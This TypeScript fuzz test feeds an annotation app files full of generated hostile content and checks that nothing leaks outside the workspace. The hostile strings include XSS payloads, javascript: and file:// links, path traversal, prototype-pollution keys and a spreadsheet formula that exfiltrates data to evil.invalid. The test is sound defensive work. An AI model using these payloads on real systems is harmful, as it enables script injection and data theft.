/**
 * The hostile teammate (issue 21): every file a teammate or a scraper writes — articles as txt,
 * md, html, docx and jsonl; the label schema, suggestion settings, article settings, guidelines,
 * layers with notes, model predictions, an import, and the app's own settings — filled with
 * generated hostile content: script and markup in every field, U+202E in names and labels,
 * `javascript:` and `file:` links, CSS in colour fields, `__proto__` / `constructor` keys, deep
 * nesting, long runs of one character and (in one round) a 10 MB field. Seeded: a failing round
 * prints its seed, and PILCROW_FUZZ_SEED=<n> runs that one again. Each round is driven through
 * the real handler table and the CLI (drive-everything.ts), then:
 *   - nothing outside the workspace and user data is read or written: a secret file beside the
 *     workspace, which the hostile files point at every way they can, is byte-identical and its
 *     bytes are nowhere in the workspace, user data, exports or any message;
 *   - nothing comes back as an internal error, and every file refused is named where it is refused;
 *   - markup comes back as the text it is, character for character;
 *   - memory stays bounded (the process's resident size, checked after each round).
 * PILCROW_FUZZ_SHOW=1 prints every refusal of a round.
 * How fast each path is on a 1 MB input is a bench figure (`npm run bench`), not asserted here.
 */
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { Prng } from '../../bench/generator/prng';
import { everything, files, tree } from './drive-everything';
import { openHandlerApp } from './app/handler-app';
import { docx, wordParagraph } from './formats/zip-writer';
import { tempDir } from './temp';
import type { AppState, ArticleView } from '../../../src-main/shared/views';

const SECRET = 'PILCROW-SECRET-hostile-teammate-91c3';
const ROUNDS = process.env.PILCROW_FUZZ_SEED ? [Number(process.env.PILCROW_FUZZ_SEED)] : [0x7ea1, 0xbad5, 0xc0de];
/** The round with a 10 MB field in every file that takes one. */
const BIG_ROUND = 0xc0de;
/** Resident memory the test process may reach (the suite's own data included). */
const MAX_RSS = 2.5 * 1024 ** 3;

/** Hostile strings, each a kind of thing a careless or malicious teammate writes. */
function hostileStrings(secretPath: string): string[] {
  return [
    '<script>window.__pwned=1</script>',
    '<img src=x onerror="window.__pwned=2">',
    '"><svg onload=alert(1)>',
    'javascript:alert(document.cookie)',
    `file://${secretPath}`,
    `../../${secretPath.split('/').slice(-2).join('/')}`,
    secretPath,
    'red; background: url(http://evil.invalid/x.png)',
    'expression(alert(1))',
    'quote\u202Eetouq',
    '\u202Eexe.txt',
    '__proto__',
    'constructor',
    'toString',
    '=HYPERLINK("http://evil.invalid/?"&A1,"x")',
    '{{7*7}} ${7*7} %s%n',
    '\u0000\u0007\u001b[31m',
    '“'.repeat(5000),
    '['.repeat(5000),
  ];
}

/** A value of the round's choosing: a hostile string, a long run of one character, a prototype key, deep nesting. */
class Hostile {
  constructor(
    readonly rng: Prng,
    private readonly strings: string[],
    readonly big: boolean,
  ) {}
  text(): string {
    const pick = this.rng.pick(this.strings);
    return this.rng.chance(0.3) ? `${pick} ${this.rng.pick(this.strings)}` : pick;
  }
  /** A field's value: text, or (10 MB round) a 10 MB run. */
  field(): string {
    return this.big && this.rng.chance(0.25) ? this.rng.pick(['a', '“', '<', '\u202E']).repeat(10 * 1024 * 1024) : this.text();
  }
  /** Anything JSON can hold where an object is expected. */
  value(depth = 0): unknown {
    const kind = this.rng.int(0, depth > 2 ? 2 : 5);
    if (kind === 0) return this.text();
    if (kind === 1) return this.rng.pick([null, -1, 1e308, true, [], {}]);
    if (kind === 2) return nested(this.rng.pick([50, 5000, 100_000]));
    if (kind === 3) return [this.value(depth + 1), this.value(depth + 1)];
    return this.record(depth + 1);
  }
  record(depth = 0): Record<string, unknown> {
    const out: Record<string, unknown> = {};
    for (const key of [this.text(), '__proto__', 'constructor', this.text()]) out[key] = this.value(depth);
    return out;
  }
}

/** `[[[…]]]` `depth` deep, as text (JSON.stringify of it would overflow first). */
function nested(depth: number): unknown {
  return { __nested: depth };
}

/** JSON where `{ "__nested": n }` becomes n levels of arrays, and `__proto__` stays an own key. */
function json(value: unknown): string {
  return JSON.stringify(value).replace(/\{"__nested":(\d+)\}/g, (_, n: string) => `${'['.repeat(Number(n))}${']'.repeat(Number(n))}`);
}

interface Round {
  base: string;
  ws: string;
  secretPath: string;
  /** Markup written as a plain-text paragraph, to come back as the same text. */
  plain: string;
}

async function put(path: string, data: string | Uint8Array): Promise<void> {
  await mkdir(dirname(path), { recursive: true });
  await writeFile(path, data);
}

async function layOut(seed: number): Promise<Round> {
  const base = await tempDir('hostile');
  const ws = join(base, 'ws');
  const secretPath = join(base, 'outside', 'secret.txt');
  await put(secretPath, `${SECRET}\n`);
  const h = new Hostile(new Prng(seed), hostileStrings(secretPath), seed === BIG_ROUND);
  const lines = (n: number) => Array.from({ length: n }, () => h.text());
  const plain = '<b onclick="x()">bold</b> <a href="javascript:alert(1)">link</a> \u202Eevil';

  // Articles: every format the reader takes, markup and runs in their text and names.
  await put(join(ws, 'news', 'plain.txt'), ['Title of a plain article', plain, ...lines(6), h.field()].join('\n\n'));
  await put(join(ws, 'news', `${h.rng.int(0, 9)}-\u202Etxt.md`), ['# Heading <script>x()</script>', ...lines(6).map((l) => `- ${l}`), `[a](javascript:alert(1)) ![b](file://${secretPath})`, h.field()].join('\n\n'));
  await put(join(ws, 'news', 'page.html'), `<html><head><title>${h.text()}</title><base href="file://${secretPath}"><link rel=stylesheet href="file://${secretPath}"></head><body><article><h1>Headline</h1>${lines(6).map((l) => `<p style="${h.text()}" class="${h.text()}">${l.replace(/</g, '&lt;')} <img src="file://${secretPath}"></p>`).join('')}<p>${h.field().replace(/</g, '&lt;')}</p><iframe src="file://${secretPath}"></iframe></article></body></html>`);
  await put(join(ws, 'news', 'report.docx'), docx([h.text(), ...lines(4), h.field()].map((l) => wordParagraph(l.replace(/[<&]/g, (c) => (c === '<' ? '&lt;' : '&amp;')))).join('')));
  await put(join(ws, 'news', 'feed.jsonl'), [{ id: '__proto__', title: h.text(), text: h.text() }, { id: h.text(), text: h.field() }, { constructor: h.text(), text: 'x' }, h.record(), { id: 'deep', text: nested(5000) }].map(json).join('\n'));

  // The team's files in .pilcrow/: the schema (CSS in colours, names with bidi controls), settings, article settings.
  const pilcrow = join(ws, '.pilcrow');
  const label = () => ({ name: h.text(), color: h.rng.pick(['#2f6fde', h.text(), 'url(javascript:alert(1))']), key: h.rng.pick(['Digit1', h.text()]), description: h.field() });
  await put(join(pilcrow, 'schema.json'), json(h.rng.chance(0.5) ? { version: 1, mode: 'multi', labels: [label(), label(), { name: 'quote', color: '#2f6fde', key: 'Digit1', description: h.text() }], retired: [h.text()], renames: [{ from: h.text(), to: '__proto__' }] } : h.record()));
  await put(join(pilcrow, 'suggest.json'), json({ version: 1, enabled: { __proto__: false, constructor: true, [h.text()]: h.value() }, thresholds: { quote: h.value(), toString: 0.1 } }));
  await put(join(pilcrow, 'articles', 'news', 'plain.txt.json'), json({ version: 1, article: `../../${secretPath}`, updated_at: h.text(), encoding: h.text(), edits: [h.value()], __proto__: h.record() }));
  await put(join(ws, 'guidelines.md'), `# Guide\n\n${lines(8).map((l) => `- ${l}`).join('\n')}\n\n[x](javascript:alert(1)) ![y](file://${secretPath}) <file://${secretPath}>\n${h.field()}\n`);

  // A teammate's layer: notes of markup, labels with bidi controls, prototype-named paragraphs.
  const at = '2026-11-27T09:00:00.000Z';
  const paragraphs: Record<string, unknown> = { __proto__: { index: 0, labels: ['quote'], updated_at: at } };
  for (let i = 0; i < 4; i++) paragraphs[h.rng.pick(['constructor', h.text(), `p${i}`])] = { index: i, labels: [h.text(), 'quote'], updated_at: h.rng.pick([at, h.text()]), note: h.field(), flagged: h.value() };
  await put(join(pilcrow, 'annotations', 'omid', 'news', 'plain.txt.json'), json({ version: 1, article: 'news/plain.txt', annotator: 'omid', updated_at: at, status: 'in_progress', paragraphs, orphans: [h.value()] }));
  await put(join(pilcrow, 'annotations', 'omid', 'news', 'page.html.json'), json(h.record()));
  await put(join(pilcrow, 'annotations', `\u202Eomid`, 'news', 'plain.txt.json'), json({ version: 1, article: 'news/plain.txt', annotator: '\u202Eomid', updated_at: at, status: 'done', paragraphs: {}, orphans: [] }));

  // Model predictions and the import the app's dialog picks: paths out of the workspace, prototype keys.
  const record = () => ({ article: h.rng.pick(['news/plain.txt', `../outside/secret.txt`, secretPath, h.text()]), paragraph: h.rng.pick([0, 1, -1, 1e9, h.text()]), labels: [h.text(), 'quote'], score: h.rng.pick([0.9, 2, h.text()]), annotator: h.rng.pick(['omid', '__proto__', h.text()]), text: h.field(), updated_at: h.rng.pick([at, '9999-01-01T00:00:00Z', h.text()]) });
  await put(join(pilcrow, 'predictions', `${h.rng.pick(['model', '__proto__', 'constructor'])}.jsonl`), [record(), record(), record(), h.record()].map(json).join('\n'));
  await put(join(base, 'imports', 'omid.jsonl'), [record(), record(), record(), h.record()].map(json).join('\n'));

  // The app's own settings in user data.
  await put(join(base, 'user', 'settings.json'), json({ version: 1, annotator: h.text(), recent: [secretPath, `file://${secretPath}`, h.text()], __proto__: { annotator: 'admin' }, theme: h.text() }));
  return { base, ws, secretPath, plain };
}

/** The envelopes' errors and the CLI's error lines among everything said. */
function errorsOf(said: string[]): { code?: string; message: string }[] {
  return said.flatMap((s) => {
    try {
      const parsed = JSON.parse(s) as unknown;
      if (parsed && typeof parsed === 'object' && 'code' in parsed && 'message' in parsed) return [parsed as { code: string; message: string }];
      return [];
    } catch {
      return s.startsWith('pilcrow ') ? [] : [{ message: s }];
    }
  });
}

describe('a workspace of a hostile teammate’s files', () => {
  for (const seed of ROUNDS) {
    it(`seed ${seed}${seed === BIG_ROUND ? ' (10 MB fields)' : ''}: read, shown, suggested, reviewed, exported and imported without reading or writing outside, every refusal naming its file`, { timeout: 120_000 }, async () => {
      const round = await layOut(seed);
      const { base, ws } = round;
      const outsideTree = await tree(join(base, 'outside'));
      const outsideBytes = await files(join(base, 'outside'));
      const parent = (await tree(base)).filter((p) => !/^(ws|user|locks|exports)(\/|:)/.test(p));

      const said = await everything(base, ws);

      // Nothing read from outside: the secret's bytes are nowhere they could have been copied to.
      for (const dir of ['ws', 'user', 'exports']) {
        for (const [path, bytes] of await files(join(base, dir))) expect(bytes.includes(SECRET), `${dir}/${path} holds the secret`).toBe(false);
      }
      expect(said.join('\n')).not.toContain(SECRET);
      // Nothing written outside the workspace, the user data, the locks and the chosen exports.
      expect(await tree(join(base, 'outside'))).toEqual(outsideTree);
      expect(await files(join(base, 'outside'))).toEqual(outsideBytes);
      expect((await tree(base)).filter((p) => !/^(ws|user|locks|exports)(\/|:)/.test(p))).toEqual(parent);

      // No handler fell over; every refusal says which file.
      const errors = errorsOf(said);
      if (process.env.PILCROW_FUZZ_SHOW) console.log(errors.map((e) => `${e.code ?? 'cli'}: ${e.message.slice(0, 200)}`).join('\n'));
      expect(errors.filter((e) => e.code === 'internal'), said.join('\n').slice(0, 4000)).toEqual([]);
      for (const e of errors) expect(e.message, `an error that names no file: ${e.message.slice(0, 300)}`).toMatch(/\.(txt|md|html|docx|jsonl|json)\b|guidelines|schema|settings|predictions|annotations|workspace|layer|file|article/i);

      // Markup is text: the plain article's paragraph comes back as written.
      const app = await openHandlerApp({ workspace: ws, userData: join(base, 'user'), annotator: 'sara', locksDir: join(base, 'locks') });
      try {
        const state = await app.call<AppState>('app.init');
        const id = state.workspace!.articles.find((a) => a.path === 'news/plain.txt')!.id;
        const article = await app.call<ArticleView>('article.open', { articleId: id });
        expect(article.paragraphs.map((p) => p.text)).toContain(round.plain);
      } finally {
        app.session.close();
      }
      expect(process.memoryUsage().rss).toBeLessThan(MAX_RSS);
    });
  }
});

// The rounds' content must be what the seed says, or a failure could not be run again.
describe('the hostile rounds', () => {
  it('lay out the same bytes for the same seed', async () => {
    const [a, b] = [await layOut(0x7ea1), await layOut(0x7ea1)];
    // The temp folder's name differs and is compressed with the rest in a .docx: those are compared unzipped elsewhere.
    const strip = (m: Map<string, Buffer>, base: string) => [...m].filter(([p]) => !p.endsWith('.docx')).map(([p, bytes]) => [p, bytes.toString('latin1').replaceAll(base, 'BASE')]);
    const [fa, fb] = [strip(await files(a.ws), a.base), strip(await files(b.ws), b.base)];
    expect(fa).toEqual(fb);
    expect((await readFile(join(a.ws, 'news', 'plain.txt'), 'utf8')).length).toBeGreaterThan(0);
  });
});
